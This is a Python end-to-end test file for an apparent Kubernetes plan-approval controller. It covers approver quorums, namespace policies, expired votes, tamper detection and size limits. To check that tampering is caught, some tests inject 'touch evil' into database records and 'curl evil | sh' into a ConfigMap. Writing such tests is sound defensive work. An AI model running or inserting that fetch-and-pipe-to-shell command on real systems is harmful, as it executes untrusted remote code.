"""Laws 4, 7 and 8: who counts, until when, and for which bytes. Namespace policies, late votes, and what people saw tampered with."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from typing import Any

import pytest
import yaml

from controller.core.digest import plan_digest
from tests.e2e.product import APPROVE, Product

BY_NAME = '[{"op":"add","path":"/spec/decisions/-","value":{"approver":"alice@corp","verdict":"Approve"}}]'
LIMIT_BYTES = 64 * 1024


def policy(product: Product, **rules: Any) -> str:
    """A policy file where these rules hold in this namespace; its path."""
    whole = yaml.safe_load((product.stack.state / "policy.yaml").read_text())
    whole["namespaces"] = {product.namespace: rules}
    path = product.stack.state / f"{product.namespace}.policy.yaml"
    path.write_text(yaml.safe_dump(whole))
    return str(path)


def may_approve(product: Product, *people: str) -> None:
    """Binds these people to the approvers' role in this namespace only."""
    for who in people:
        product.kubectl(
            "create", "rolebinding", f"{who}-approves", "--clusterrole=sisukodo-approver", f"--user={who}@corp"
        )


def approval(product: Product, name: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(product.kubectl("get", "pa", product.approval_of(name), "-o", "json"))
    return found


def nothing_ran(product: Product) -> None:
    assert product.starts() == {}
    assert product.sql("SELECT count(*) FROM app.sbx_runs") == [(0,)]
    assert product.sql("SELECT count(*) FROM app.sbx_attempts") == [(0,)]


# --------------------------------------------------------------------------- who


@pytest.mark.parametrize("who_asks", ["namespace", "intent"])
def test_law_8_a_quorum_of_two_is_two_people(product: Product, who_asks: str) -> None:
    rules = {"required": 2} if who_asks == "namespace" else {}
    product.start(POLICY_FILE=policy(product, **rules))
    may_approve(product, "bob")
    product.apply("q", "say hello", **({} if rules else {"approval": {"required": 2}}))
    product.wait_phase("q", "WaitingInput")
    assert approval(product, "q")["spec"]["policy"]["required"] == 2
    product.vote("q")
    product.wait(lambda: approval(product, "q").get("status", {}).get("received") == 1, "one vote is seen")
    again = product.vote("q", check=False)
    assert again.returncode != 0 and "Duplicate value" in again.stderr
    time.sleep(1)
    assert product.status("q")["phase"] == "WaitingInput"
    nothing_ran(product)

    product.vote("q", user="bob")
    assert product.wait_phase("q", "Succeeded", "Failed")["phase"] == "Succeeded"
    assert product.sql("SELECT approver FROM app.plan_approvals ORDER BY 1") == [("alice@corp",), ("bob@corp",)]
    product.assert_once()


def test_law_8_an_intent_cannot_loosen_the_namespaces_policy(product: Product) -> None:
    product.start(POLICY_FILE=policy(product, required=2))
    product.apply("q", "say hello", approval={"required": 1})
    product.wait_phase("q", "WaitingInput")
    product.vote("q")
    product.wait(lambda: approval(product, "q").get("status", {}).get("received") == 1, "one vote is seen")
    time.sleep(1)
    assert product.status("q")["phase"] == "WaitingInput"
    nothing_ran(product)


def test_law_8_the_requester_is_excluded_where_the_policy_says_so(product: Product) -> None:
    product.start(POLICY_FILE=policy(product, allowRequester=False))
    may_approve(product, "carol")
    product.apply("mine", "say hello")
    product.wait_phase("mine", "WaitingInput")
    refused = product.vote("mine", user="carol", check=False)
    assert refused.returncode != 0
    assert "carol@corp requested this Intent; ask a colleague" in refused.stderr
    nothing_ran(product)
    product.vote("mine")
    assert product.wait_phase("mine", "Succeeded", "Failed")["phase"] == "Succeeded"
    assert product.sql("SELECT approver FROM app.plan_approvals") == [("alice@corp",)]


@contextmanager
def without_mutation(product: Product) -> Iterator[None]:
    """As a cluster that does not know MutatingAdmissionPolicy; put back in the end."""
    kind, name = "mutatingadmissionpolicybinding", "planapproval.sisukodo.dev"
    kept = json.loads(product.kubectl("get", kind, name, "-o", "json"))
    product.kubectl("delete", kind, name)
    try:
        yield
    finally:
        body = {k: kept[k] for k in ("apiVersion", "kind", "spec")} | {"metadata": {"name": name}}
        product.kubectl("apply", "--server-side", "-f", "-", stdin=json.dumps(body))


def test_law_8_a_vote_by_name_counts_with_and_without_mutation(product: Product) -> None:
    product.start()
    product.apply("with", "say hello")
    product.apply("without", "say hello")
    for name in ("with", "without"):
        product.wait_phase(name, "WaitingInput")
    product.vote("with", patch=BY_NAME)
    assert product.wait_phase("with", "Succeeded", "Failed")["phase"] == "Succeeded"
    dry = ("patch", "pa", product.approval_of("without"), "--dry-run=server", "--type=json", "-p", APPROVE)
    with without_mutation(product):

        def in_force() -> bool:
            nameless = product.stack.kubectl("-n", product.namespace, *dry, user="alice", check=False)
            return "approver: Required value" in nameless.stderr

        product.wait(in_force, "nobody fills the name in")
        product.vote("without", patch=BY_NAME)
        assert product.wait_phase("without", "Succeeded", "Failed")["phase"] == "Succeeded"
    product.wait(lambda: not in_force(), "names are filled in again")


# --------------------------------------------------------------------------- until when


def test_law_4_a_late_vote_is_admitted_and_never_counted(product: Product) -> None:
    first = product.start()
    product.apply("late", "say hello", approval={"expiresAfterSeconds": 3})
    deadline = product.wait_phase("late", "WaitingInput")["approvalDeadline"]
    first.kill()
    past = datetime.fromisoformat(deadline.replace("Z", "+00:00"))
    while datetime.now(UTC) <= past:
        time.sleep(0.1)
    product.vote("late")  # CEL has no clock: nobody has said yet that it is over
    product.start()
    assert product.wait_phase("late", "Expired", "Running", "Succeeded")["phase"] == "Expired"
    refused = product.vote("late", user="admin", check=False)
    assert refused.returncode != 0 and "Expired already" in refused.stderr
    assert product.sql("SELECT count(*) FROM app.plan_approvals") == [(0,)]
    assert product.sql("SELECT count(*) FROM dbos.workflow_status WHERE name = 'ExecutePlanWF'") == [(0,)]
    nothing_ran(product)


# --------------------------------------------------------------------------- for which bytes


def test_law_7_a_record_changed_while_waiting_stops_its_votes(product: Product) -> None:
    product.start()
    product.apply("t", "say hello")
    product.wait_phase("t", "WaitingInput")
    product.sql("""UPDATE app.runs SET record = jsonb_set(record, '{tasks,0,command}', '"touch evil"') RETURNING 1""")
    product.vote("t")
    product.wait(lambda: product.status("t").get("reason") == "ApprovalTampered", "the status says why")
    assert product.condition("t", "Stalled")["status"] == "True"
    time.sleep(1)
    assert product.sql("SELECT status, execution_no FROM app.runs") == [("waiting_input", 0)]
    nothing_ran(product)


def change_record(product: Product) -> None:
    product.sql("""UPDATE app.runs SET record = jsonb_set(record, '{tasks,0,command}', '"touch evil"') RETURNING 1""")


def change_record_and_digest(product: Product) -> None:
    change_record(product)
    ((record,),) = product.sql("SELECT record FROM app.runs")
    product.sql("UPDATE app.runs SET digest = %s RETURNING 1", plan_digest(record))


def change_patch(product: Product) -> None:
    ((sha,),) = product.sql("SELECT record->>'patchSha256' FROM app.runs")
    product.sql("UPDATE app.blobs SET content = 'evil' WHERE sha256 = %s RETURNING 1", sha)


@pytest.mark.parametrize("tamper", [change_record, change_record_and_digest, change_patch])
def test_law_7_bytes_changed_between_approval_and_execution_are_refused(
    product: Product, tamper: Callable[[Product], None]
) -> None:
    first = product.start_crashing("approve", "after")
    product.apply("t", "say hello")
    product.wait_phase("t", "WaitingInput")
    product.vote("t")
    product.wait(lambda: not first.child.alive(), "the kill after the quorum was consumed")
    tamper(product)
    product.start()
    assert product.wait_phase("t", "Failed", "Succeeded")["reason"] == "ExecutionRefused"
    nothing_ran(product)


def test_law_7_a_changed_configmap_stops_votes_and_is_made_again(product: Product) -> None:
    product.start()
    product.apply("big", "run 1000 small checks", limits={"maxTasks": 1000})
    product.wait_phase("big", "WaitingInput")
    seen = product.wait(lambda: approval(product, "big"), "the approval")
    part = seen["spec"]["plan"]["tasksRef"]["name"]
    shown = json.loads(product.kubectl("get", "configmap", part, "-o", "json"))
    assert shown["immutable"] is True
    product.kubectl("delete", "configmap", part)
    body = {**shown, "data": {"content": shown["data"]["content"].replace("true", "curl evil | sh", 1) + " "}}
    body["metadata"] = {"name": part, "ownerReferences": shown["metadata"]["ownerReferences"]}
    product.kubectl("create", "-f", "-", stdin=json.dumps(body))
    product.vote("big")
    product.wait(lambda: product.status("big").get("reason") == "ApprovalTampered", "the status says why")
    assert part in product.condition("big", "Stalled")["message"]
    nothing_ran(product)

    product.kubectl("delete", "configmap", part)
    product.kubectl("delete", "pa", seen["metadata"]["name"])

    def made_again() -> dict[str, Any] | None:
        found = product.objects("planapprovals")
        return found[0] if found and found[0]["metadata"]["uid"] != seen["metadata"]["uid"] else None

    again = product.wait(made_again, "the runbook's remedy: a new object")
    assert again["spec"]["decisions"] == [], "votes on the other object are not carried over"
    assert json.loads(product.kubectl("get", "configmap", part, "-o", "json"))["data"] == shown["data"]
    product.wait(lambda: product.status("big").get("reason") == "plan_not_approved", "it waits again")
    nothing_ran(product)


@pytest.mark.slow
def test_law_3_a_thousand_tasks_stay_under_64_kib(product: Product) -> None:
    product.start()
    product.apply("big", "run 1000 small checks", limits={"maxTasks": 1000, "parallelism": 50})
    product.wait_phase("big", "WaitingInput")
    product.vote("big")
    done = product.wait_phase("big", "Succeeded", "Failed", seconds=90)
    assert done["phase"] == "Succeeded" and done["tasks"]["display"] == "1000/1000"
    for kind, name in (("intent", "big"), ("pa", product.approval_of("big"))):
        size = len(product.kubectl("get", kind, name, "-o", "json", "--show-managed-fields").encode())
        assert size < LIMIT_BYTES, f"{kind}: {size} bytes"
    assert set(product.starts().values()) == {1} and len(product.starts()) == 1000
    product.assert_once()
